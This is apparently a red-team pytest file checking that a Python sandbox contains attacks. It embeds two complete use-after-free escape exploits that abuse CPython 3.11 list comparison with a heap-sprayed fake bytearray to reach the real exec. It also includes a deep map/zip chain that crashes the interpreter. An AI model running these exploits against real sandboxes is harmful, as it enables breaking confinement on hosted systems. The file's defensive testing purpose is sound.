"""Red team, round eleven: the sandbox's language layer, attacked with ordinary tree programs.

Programs the upload check accepts, run by a real ``Supervisor`` and ``Previewer`` in real
confined children, no mocks. ``docs/red-team/round11-language.md`` has the reproductions, what
held, and the suggested fixes; the numbers below are its findings'. Every memory experiment
runs in a child, never in the pytest process.
"""

from __future__ import annotations

import pytest

from runner.supervise.check import Checker
from tests.hardening.confined_runs import FROM_MEMORY_TO_EXEC as _FROM_MEMORY_TO_EXEC
from tests.hardening.confined_runs import config as _config
from tests.hardening.confined_runs import dry_run as _dry_run
from tests.hardening.confined_runs import tree_run as _tree_run

# From a fake bytearray over the whole address space to the real ``exec``, as in rounds eight
# and ten: ``id(print) + 16`` is the ``SandboxFunction``'s ``_call`` (a function of
# ``runner.sandbox.guards``), ``+ 16`` its ``__globals__``, stored into a list of the program's.
FROM_MEMORY_TO_EXEC = _FROM_MEMORY_TO_EXEC


def _assert_contained(program: str, name: str) -> None:
    assert Checker(_config()).check(program) == [], "the upload check accepts the program"
    real = _tree_run(program, name)
    predicted = _dry_run(program)
    for log in (real.log, predicted.log):
        assert "ESCAPED" not in log, log
    # However a fix refuses it, the program must not end as if nothing happened, nor crash.
    assert real.status == "failed" and real.error is not None, real
    assert real.reason != "killed", real.error
    assert predicted.status == "failed" and predicted.error is not None, predicted


# --- 1. a program's __contains__ frees both items of a list comparison (real builtins) ----------
#
# The round-ten guard counts only the comparison methods (and __bool__/__len__) of the program's
# classes. CPython 3.11's ``list_richcompare`` makes its last comparison through borrowed
# pointers (gh-120298); when the left item is a dict keys view and the right one a ``set``
# subclass, the view's comparison (``dictview_richcompare`` -> ``all_contained_in``) calls the
# set's ``__contains__`` for every key: program code that is not counted, so it may empty both
# lists (and swap a key of the dict, keeping its size). When it returns True, the set (240-byte
# block) is freed by its frame, then ``Py_DECREF(next)`` frees the swapped-out key, whose
# suspended generator's ``finally`` refills the block with bytes: a fake instance of a
# ``bytearray`` subclass of the program's, over the whole address space. The loop goes on with
# ``PySequence_Contains(freed set, next key)``, which calls the fake's type's ``__contains__``
# with the fake as ``self``. Found: every run, tree and dry run, ``completed``/``ended``, log
# "ESCAPED: pid, uid, environment: (…, 65534, ['LC_CTYPE'])".
CONTAINS_ESCAPE = (
    """def word(value):
    return value.to_bytes(8, "little")


class Fake(bytearray):
    def __contains__(self, item):
        found.append(self)
        return False


# A Fake (bytearray subclass) as CPython 3.11 lays it out: data at address 0, 2**62 bytes long;
# padded to the victim's size class.
FAKE = word(1 << 40) + word(id(Fake)) + word(1 << 62) + word(1 << 62)
FAKE += word(0) + word(0) + word(0) + bytes(144)
spray = [None] * 600
found = [None]


class Victim(set):
    def __contains__(self, item):
        left.clear()
        right.clear()
        del table[item]
        table[Key()] = 0
        return True


def reclaim():
    try:
        yield
    finally:
        for i in range(600):
            spray[i] = bytes(bytearray(FAKE))


class Key:
    pass


first = Key()
first.pending = reclaim()
next(first.pending)
table = {first: 0, Key(): 0}
first = None
left = [table.keys()]
right = [Victim([1, 2, 3, 4])]
%s
"""
    + FROM_MEMORY_TO_EXEC
)


@pytest.mark.parametrize("comparison", ["left < right", "sorted([right, left])"])
def test_a_program_cant_free_a_compared_item_from_its_contains_method(comparison: str) -> None:
    _assert_contained(CONTAINS_ESCAPE % comparison, "contains-escape")


# --- 2. super().__init__() empties a list while a comparison method runs (real builtins) -------
#
# ``super().__init__`` (and every allowed special method named through ``super()``) compiles
# to a plain attribute: no ``_getattr_``, so no ``guard_method``; and it is a method-wrapper,
# which ``guard_method`` would not check anyway. ``list.__init__`` empties the list first
# (``set.__init__`` too; ``super().__setitem__`` replaces an item). So round ten's exploit, with
# the two lists made of a ``list`` subclass whose ``empty()`` calls ``super().__init__()``,
# works as before, the counter notwithstanding (the reflected ``__gt__`` keeps its objects with
# ``append``, which the guard allows). Found: every run, ``completed``/``ended``, "ESCAPED".
SUPER_INIT_ESCAPE = (
    """def word(value):
    return value.to_bytes(8, "little")


FAKE = word(1 << 40) + word(id(bytearray)) + word(1 << 62) + word(1 << 62)
FAKE += word(0) + word(0) + word(0) + bytes(144)
spray = [None] * 600
found = [None]
keep = [None]


class Box(list):
    def empty(self):
        super().__init__()


class Victim(set):
    def __lt__(self, other):
        left.empty()
        right.empty()
        return NotImplemented


class Trigger:
    def __gt__(self, other):
        keep.append(self)
        found.append(other)
        return False


def reclaim():
    try:
        yield
    finally:
        for i in range(600):
            spray[i] = bytes(bytearray(FAKE))


trigger = Trigger()
trigger.pending = reclaim()
next(trigger.pending)
left = Box([Victim()])
right = Box([trigger])
trigger = None
%s
"""
    + FROM_MEMORY_TO_EXEC
)


@pytest.mark.parametrize("comparison", ["left < right", "sorted([right, left])"])
def test_a_program_cant_empty_a_compared_list_through_super_init(comparison: str) -> None:
    _assert_contained(SUPER_INIT_ESCAPE % comparison, "super-init-escape")


# --- 3. an ordinary comparison method may not count, tally or walk with a local list -----------
#
# While any comparison method runs, the guard refuses every item store, delete and dropping
# method on every list, dict and set: also the method's own local ones, which the interpreter
# cannot be comparing. A sorting visualiser that counts its comparisons, an ``__eq__`` that
# compares two palettes as multisets with a local tally, an ``__eq__`` that walks two trees
# with a local stack (instead of recursing): plain CPython runs all three; the sandbox ends
# each with "a dict/list cannot lose items while a comparison method ... runs".
ORDINARY_COMPARISONS = {
    "counted sort": """
comparisons = {"count": 0}


class Bar:
    def __init__(self, height):
        self.height = height

    def __lt__(self, other):
        comparisons["count"] += 1
        return self.height < other.height


bars = sorted([Bar(5), Bar(3), Bar(8), Bar(1)])
print([bar.height for bar in bars], comparisons["count"] > 0)
""",
    "multiset palette": """
class Palette:
    def __init__(self, colours):
        self.colours = colours

    def __eq__(self, other):
        tally = {}
        for colour in self.colours:
            tally[colour] = tally.get(colour, 0) + 1
        for colour in other.colours:
            tally[colour] = tally.get(colour, 0) - 1
        return all(count == 0 for count in tally.values())


red, green = (255, 0, 0), (0, 255, 0)
print(Palette([red, green, red]) == Palette([red, red, green]))
""",
    "tree walked with a stack": """
class Branch:
    def __init__(self, colour, children=()):
        self.colour = colour
        self.children = list(children)

    def __eq__(self, other):
        stack = [(self, other)]
        while stack:
            a, b = stack.pop()
            if a.colour != b.colour or len(a.children) != len(b.children):
                return False
            stack.extend(zip(a.children, b.children))
        return True


print(Branch(1, [Branch(2), Branch(3)]) == Branch(1, [Branch(2), Branch(3)]))
""",
}


@pytest.mark.parametrize("name", sorted(ORDINARY_COMPARISONS))
def test_an_ordinary_comparison_method_can_use_its_own_containers(name: str) -> None:
    program = ORDINARY_COMPARISONS[name]
    assert Checker(_config()).check(program) == []
    real = _tree_run(program, name.replace(" ", "-"))
    assert (real.status, real.reason) == ("completed", "ended"), real.error
    assert "True" in real.log, real.log
    predicted = _dry_run(program)
    assert predicted.status == "completed" and predicted.error is None, predicted


# --- 4. a recursive __eq__ gets half of Python's recursion depth --------------------------------
#
# Every comparison method runs inside a counting wrapper (a second Python frame), so a recursive
# ``__eq__`` (comparing two linked chains, or two trees) hits RecursionError at about half the
# depth plain CPython allows: a chain of 450 nodes compares fine in plain CPython 3.11 (the
# limit is about 990), and fails in the sandbox at about 330 levels. Found: tree run
# ``failed``/``error`` "maximum recursion depth exceeded", line 8, every run.
DEEP_EQ = """
class Node:
    def __init__(self, value, rest):
        self.value = value
        self.rest = rest

    def __eq__(self, other):
        return self.value == other.value and self.rest == other.rest


def chain(n):
    node = None
    for i in range(n):
        node = Node(i, node)
    return node


print(chain(450) == chain(450))
"""


def test_a_recursive_comparison_method_gets_pythons_usual_depth() -> None:
    real = _tree_run(DEEP_EQ, "deep-eq")
    assert (real.status, real.reason) == ("completed", "ended"), real.error
    assert real.log == "True\n"


# --- 5. iterating a long chain of map() or zip() objects kills the child with SIGSEGV ----------
#
# ``map``/``zip`` fetch their source's next item in C with no recursion check, and a builtin
# function (``abs``) adds no Python frame, so ``next`` of 300,000 nested maps overflows the C
# stack. Found: tree run ``failed``/``killed`` "killed by SIGSEGV", line 5, every run, in
# ~0.2 s; plain CPython 3.11.7 crashes the same way. ``runner/README.md`` documents only the
# deep tuple's hash.
DEEP_ITERATORS = {
    kind: f"chain = [1]\nfor i in range(300000):\n    chain = {make}\n\nprint(len(list(chain)))\n"
    for kind, make in (("map", "map(abs, chain)"), ("zip", "zip(chain)"))
}


@pytest.mark.xfail(
    strict=True,
    reason="red team round eleven, known and documented (runner/README.md, 'Data nested a "
    "million deep'): iterating a deep chain of map()/zip() overflows the C stack",
)
@pytest.mark.parametrize("kind", sorted(DEEP_ITERATORS))
def test_a_program_cant_crash_its_interpreter_with_a_deep_iterator_chain(kind: str) -> None:
    program = DEEP_ITERATORS[kind]
    real = _tree_run(program, f"deep-{kind}")
    predicted = _dry_run(program)
    assert real.error is not None and real.error.line == 5, real
    for reason, error in ((real.reason, real.error), (predicted.reason, predicted.error)):
        assert reason != "killed", error
